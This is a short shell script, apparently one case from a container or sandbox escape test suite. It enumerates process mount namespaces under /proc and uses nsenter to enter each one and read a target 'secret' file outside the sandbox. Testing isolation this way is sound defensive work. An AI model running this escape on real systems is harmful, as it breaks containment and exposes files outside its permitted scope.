# Category: mounts and namespaces
# Escape: enters the mount namespace of a process outside, and reads a file there.
# Sign: secret
for link in /proc/[0-9]*/ns/mnt; do echo "$(readlink "$link") ${link%/ns/mnt}"; done 2>/dev/null | sort -u -k1,1 | while read -r _ process; do
  pid=${process#/proc/}
  nsenter --target "$pid" --mount cat "$FILE" 2>/dev/null
  nsenter --target "$pid" --user --preserve-credentials --mount cat "$FILE" 2>/dev/null
done
true
